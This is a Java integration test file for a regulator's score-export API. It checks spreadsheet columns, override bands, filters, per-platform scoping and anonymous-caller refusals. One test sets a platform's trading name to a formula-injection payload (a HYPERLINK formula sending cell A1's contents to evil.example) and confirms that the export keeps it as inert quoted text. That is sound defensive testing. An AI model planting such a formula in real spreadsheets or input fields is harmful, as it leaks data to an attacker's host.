package io.carefile.scoring;

import static io.carefile.scoring.Overrides.overrideAs;
import static io.carefile.scoring.Overrides.score;
import static io.carefile.support.SubmittedReturns.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import io.carefile.export.Exports;
import io.carefile.support.SubmittedReturns;
import io.carefile.support.TestPlatforms;
import io.carefile.support.TestPlatforms.TestPlatform;
import io.carefile.template.ReturnSamples;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * A peer group's scores as a spreadsheet (GET /api/v1/scores): typed cells, the band after an
 * analyst's override, the list's filters and a platform's own row alone. Each test files in a
 * quarter of its own of the year {@value #YEAR}, which no other test uses, so its platforms are the
 * whole group (two rows at most: larger exports go to the background in tests).
 */
@QuarkusTest
class ScoreExportTest {

  static final int YEAR = 2793;

  private static final int PLATFORM_ID = 0;
  private static final int PLATFORM = 1;
  private static final int FILING_ID = 2;

  @Test
  void aRegulatorExportsTheGroupsScoresWithTheBandThatCounts() throws IOException {
    LocalDate quarter = LocalDate.of(YEAR, 1, 1);
    TestPlatform overridden = TestPlatforms.newPlatform();
    TestPlatform plain = TestPlatforms.newPlatform();
    String overriddenFiling = file(overridden, quarter);
    String plainFiling = file(plain, quarter);
    overrideAs(overriddenFiling, "RED", "REGULATOR_INTELLIGENCE", "Intelligence from a partner.");
    double total = score(Overrides.ANALYST, plainFiling, 1).getDouble("total");
    String computed = score(Overrides.ANALYST, plainFiling, 1).getString("computedBand");

    Response answer = spreadsheet(group(as(Overrides.ANALYST), quarter));

    answer.then().statusCode(200).contentType(Exports.SPREADSHEET);
    try (XSSFWorkbook book = workbook(answer)) {
      XSSFSheet data = book.getSheet("Scores");
      assertThat(header(data))
          .containsExactly(
              "Platform id",
              "Platform",
              "Filing id",
              "Version",
              "Template",
              "Template version",
              "Period start",
              "Category",
              "Size band",
              "Total",
              "Calculated band",
              "Effective band",
              "Overridden",
              "Calculated at");
      assertThat(data.getPaneInformation().isFreezePane()).isTrue();
      assertThat(data.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:N3");
      assertThat(column(data, FILING_ID)).containsExactlyInAnyOrder(overriddenFiling, plainFiling);
      XSSFRow plainRow = rowOf(data, plainFiling);
      assertThat(plainRow.getCell(PLATFORM_ID).getStringCellValue()).isEqualTo(plain.platformId());
      assertThat(plainRow.getCell(3).getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat(plainRow.getCell(3).getNumericCellValue()).isEqualTo(1d);
      assertThat(plainRow.getCell(4).getStringCellValue()).isEqualTo("CSAM-Q");
      assertThat(DateUtil.isCellDateFormatted(plainRow.getCell(6))).isTrue();
      assertThat(plainRow.getCell(6).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(quarter);
      assertThat(plainRow.getCell(7).getStringCellValue()).isEqualTo("CATEGORY_1");
      assertThat(plainRow.getCell(8).getStringCellValue()).isEqualTo("34m-and-over");
      assertThat(plainRow.getCell(9).getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat(plainRow.getCell(9).getNumericCellValue()).isEqualTo(total);
      assertThat(plainRow.getCell(10).getStringCellValue()).isEqualTo(computed);
      assertThat(plainRow.getCell(11).getStringCellValue()).isEqualTo(computed);
      assertThat(plainRow.getCell(12).getCellType()).isEqualTo(CellType.BOOLEAN);
      assertThat(plainRow.getCell(12).getBooleanCellValue()).isFalse();
      assertThat(DateUtil.isCellDateFormatted(plainRow.getCell(13))).isTrue();
      XSSFRow overriddenRow = rowOf(data, overriddenFiling);
      assertThat(overriddenRow.getCell(10).getStringCellValue()).isEqualTo(computed);
      assertThat(overriddenRow.getCell(11).getStringCellValue()).isEqualTo("RED");
      assertThat(overriddenRow.getCell(12).getBooleanCellValue()).isTrue();
    }
    as(Overrides.ANALYST)
        .queryParam("templateCode", "CSAM-Q")
        .queryParam("periodStart", quarter.toString())
        .get("/api/v1/scores")
        .then()
        .statusCode(200)
        .body("totalItems", equalTo(2))
        .body(
            "items.find { it.filingId == '" + overriddenFiling + "' }.effectiveBand",
            equalTo("RED"))
        .body("items.find { it.filingId == '" + overriddenFiling + "' }.overridden", equalTo(true));
  }

  @Test
  void aPlatformsExportHoldsItsOwnScoreAloneAndItsNameIsNeverEvaluated() throws IOException {
    LocalDate quarter = LocalDate.of(YEAR, 4, 1);
    TestPlatform own = TestPlatforms.newPlatform();
    TestPlatform other = TestPlatforms.newPlatform();
    String hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")";
    rename(own, hostile);
    String filing = file(own, quarter);
    file(other, quarter);

    Response answer = spreadsheet(group(as(own.officer()), quarter));

    answer.then().statusCode(200).contentType(Exports.SPREADSHEET);
    try (XSSFWorkbook book = workbook(answer)) {
      XSSFSheet data = book.getSheet("Scores");
      assertThat(column(data, FILING_ID)).as("its own return alone").containsExactly(filing);
      assertThat(column(data, PLATFORM_ID)).containsOnly(own.platformId());
      XSSFCell name = data.getRow(1).getCell(PLATFORM);
      assertThat(name.getCellType()).isEqualTo(CellType.STRING);
      assertThat(name.getStringCellValue()).isEqualTo(hostile);
      assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
    }
  }

  @Test
  void theListsFiltersApplyAndARefusedFilterIsTheListsRefusal() throws IOException {
    LocalDate quarter = LocalDate.of(YEAR, 7, 1);
    TestPlatform platform = TestPlatforms.newPlatform();
    file(platform, quarter);

    Response otherBand =
        spreadsheet(group(as(Overrides.ANALYST), quarter).queryParam("category", "CATEGORY_2A"));
    otherBand.then().statusCode(200);
    try (XSSFWorkbook book = workbook(otherBand)) {
      assertThat(book.getSheet("Scores").getLastRowNum()).as("the header alone").isZero();
      XSSFSheet about = book.getSheetAt(0);
      Map<String, String> filters = new HashMap<>();
      for (int i = 6; i <= about.getLastRowNum(); i++) {
        filters.put(
            about.getRow(i).getCell(0).getStringCellValue(),
            about.getRow(i).getCell(1).getStringCellValue());
      }
      assertThat(filters)
          .containsEntry("templateCode", "CSAM-Q")
          .containsEntry("periodStart", quarter.toString())
          .containsEntry("category", "CATEGORY_2A");
    }
    for (RequestSpecification request :
        List.of(
            group(as(Overrides.ANALYST), quarter).queryParam("category", "LOST"),
            as(Overrides.ANALYST).queryParam("templateCode", "CSAM-Q"))) {
      spreadsheet(request)
          .then()
          .statusCode(400)
          .contentType("application/problem+json")
          .body("type", equalTo("urn:carefile:problem:invalid-request"));
    }
    spreadsheet(group(as(Overrides.ANALYST), quarter.plusMonths(1)))
        .then()
        .statusCode(400)
        .body("type", equalTo("urn:carefile:problem:invalid-period"));
    group(as(Overrides.ANALYST), quarter.plusMonths(1))
        .get("/api/v1/scores")
        .then()
        .statusCode(400)
        .body("type", equalTo("urn:carefile:problem:invalid-period"));
  }

  @Test
  void anAnonymousCallerIsRefusedAsTheJsonListRefusesThem() {
    RestAssured.given()
        .accept(Exports.SPREADSHEET)
        .queryParam("templateCode", "CSAM-Q")
        .queryParam("periodStart", LocalDate.of(YEAR, 1, 1).toString())
        .get("/api/v1/scores")
        .then()
        .statusCode(401);
    RestAssured.given()
        .queryParam("templateCode", "CSAM-Q")
        .queryParam("periodStart", LocalDate.of(YEAR, 1, 1).toString())
        .get("/api/v1/scores")
        .then()
        .statusCode(401);
  }

  static String file(TestPlatform platform, LocalDate quarter) {
    return SubmittedReturns.csamQ(platform, quarter, ReturnSamples.csamQuarter());
  }

  static RequestSpecification group(RequestSpecification request, LocalDate quarter) {
    return request
        .queryParam("templateCode", "CSAM-Q")
        .queryParam("periodStart", quarter.toString());
  }

  static Response spreadsheet(RequestSpecification request) {
    return request.accept(Exports.SPREADSHEET).get("/api/v1/scores");
  }

  static XSSFWorkbook workbook(Response answer) throws IOException {
    return new XSSFWorkbook(new ByteArrayInputStream(answer.asByteArray()));
  }

  static List<String> header(XSSFSheet sheet) {
    List<String> names = new ArrayList<>();
    sheet.getRow(0).forEach(cell -> names.add(cell.getStringCellValue()));
    return names;
  }

  static List<String> column(XSSFSheet sheet, int index) {
    List<String> values = new ArrayList<>();
    for (int i = 1; i <= sheet.getLastRowNum(); i++) {
      values.add(sheet.getRow(i).getCell(index).getStringCellValue());
    }
    return values;
  }

  private static XSSFRow rowOf(XSSFSheet sheet, String filing) {
    for (int i = 1; i <= sheet.getLastRowNum(); i++) {
      if (sheet.getRow(i).getCell(FILING_ID).getStringCellValue().equals(filing)) {
        return sheet.getRow(i);
      }
    }
    throw new AssertionError("No row of " + filing);
  }

  /** The platform's profile as TestPlatforms onboards it, under another trading name. */
  private static void rename(TestPlatform platform, String tradingName) {
    JsonPath onboarded =
        as("regulator-admin")
            .get("/api/v1/platforms/{id}", platform.platformId())
            .then()
            .statusCode(200)
            .extract()
            .jsonPath();
    Map<String, Object> profile =
        Map.of(
            "legalName",
            onboarded.getString("legalName"),
            "tradingName",
            tradingName,
            "companyNumber",
            onboarded.getString("companyNumber"),
            "country",
            "GB",
            "serviceKinds",
            List.of("USER_TO_USER"),
            "serviceFeatures",
            List.of("CONTENT_RECOMMENDER", "RESHARING", "DIRECT_MESSAGING"),
            "ukMonthlyActiveUsers",
            40_000_000,
            "qualifyingRevenue",
            Map.of(
                "amount",
                new BigDecimal("250000000.00"),
                "currency",
                "GBP",
                "financialYearEnd",
                "2025-12-31"));
    as("regulator-admin")
        .contentType(ContentType.JSON)
        .body(Map.of("profile", profile, "expectedVersion", 0))
        .put("/api/v1/platforms/{id}", platform.platformId())
        .then()
        .statusCode(200);
  }
}
